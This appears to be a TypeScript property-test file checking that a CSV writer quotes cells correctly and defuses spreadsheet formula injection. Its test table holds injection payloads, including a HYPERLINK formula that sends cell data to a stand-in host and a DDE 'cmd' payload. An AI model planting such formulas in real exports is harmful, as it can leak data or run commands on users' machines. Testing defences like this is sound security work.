import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine, plainText, type CsvValue } from '@/lib/csv'

/** RFC 4180 read letter by letter, by other means than the writer: records of cells, quotes taken off. */
function parse(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at += 1) {
    const letter = text.charAt(at)
    if (quoted) {
      if (letter !== '"') cell += letter
      else if (text.charAt(at + 1) === '"') {
        cell += '"'
        at += 1
      } else quoted = false
    } else if (letter === '"') {
      if (cell !== '') throw new Error(`a quote inside a plain cell at ${at}`)
      quoted = true
    } else if (letter === ',') {
      record.push(cell)
      cell = ''
    } else if (letter === '\r' && text.charAt(at + 1) === '\n') {
      records.push([...record, cell])
      record = []
      cell = ''
      at += 1
    } else if (letter === '\r' || letter === '\n') throw new Error(`a bare line break at ${at}`)
    else cell += letter
  }
  if (quoted || cell !== '' || record.length > 0) throw new Error('the last record has no end')
  return records
}

const cells = (values: readonly CsvValue[]): string[] => parse(csvLine(values))[0] ?? []

/** Texts in which what matters is frequent: beginnings of formulas, separators, quotes, breaks, things that are trimmed. */
const risky = fc.string({
  unit: fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '\t', '\r', '\n', ',', ';', '"', "'", ' ', '\u00a0', '\u200b', '\ufeff', '\0') },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  ),
  maxLength: 12,
})

describe('a line of CSV', () => {
  it('is read back by a parser as it was, whatever the texts are', () => {
    fc.assert(
      fc.property(fc.array(risky, { minLength: 1, maxLength: 6 }), (texts) => {
        expect(cells(texts).map(plainText)).toEqual(texts)
      }),
      { numRuns: 5000 },
    )
  })

  it('stays one record of as many cells', () => {
    fc.assert(
      fc.property(fc.array(fc.array(risky, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), (records) => {
        const read = parse(records.map(csvLine).join(''))
        expect(read.map((record) => record.length)).toEqual(records.map(() => 2))
      }),
    )
  })

  it('has no cell of text that a spreadsheet could take for a formula, also not after what it trims', () => {
    fc.assert(
      fc.property(risky, (text) => {
        const [cell = ''] = cells([text])
        expect(cell.normalize('NFKC').replace(/^[\s\p{C}]+/u, '')).not.toMatch(/^[=+\-@]/)
        expect(cell).not.toMatch(/^[\t\r\n]/)
      }),
      { numRuns: 5000 },
    )
  })

  it('keeps numbers as numbers, negative ones too', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        const [cell = ''] = cells([value])
        expect(Number(cell)).toBe(value === 0 ? 0 : value)
      }),
    )
    expect(csvLine([-5, 0, 1.5, 2_000_000])).toBe('-5,0,1.5,2000000\r\n')
    // Words that only look like numbers are words.
    expect(csvLine(['-5', Number.NEGATIVE_INFINITY])).toBe("'-5,'-Infinity\r\n")
  })

  it('leaves ordinary text alone, and quotes only what needs it', () => {
    expect(csvLine(['Facebook Campaign', null, undefined, '', true, "'tis", 'a-b', 'é'])).toBe("Facebook Campaign,,,,true,'tis,a-b,é\r\n")
    expect(csvLine(['a,b', 'say "so"', 'two\nlines', ' edge'])).toBe('"a,b","say ""so""","two\nlines"," edge"\r\n')
  })

  it.each([
    ['=HYPERLINK("http://x/?"&A1,"open")', `"'=HYPERLINK(""http://x/?""&A1,""open"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1', "'+1"], ['@SUM(1)', "'@SUM(1)"], ['＝1+1', "'＝1+1"], ['\t=1', `"'\t=1"`], ['\r=1', `"'\r=1"`], ["'=1", "''=1"], ['  =1', "'  =1"],
  ])('makes %j harmless', (text, written) => {
    expect(csvLine([text])).toBe(`${written}\r\n`)
    expect(cells([text]).map(plainText)).toEqual([text])
  })
})
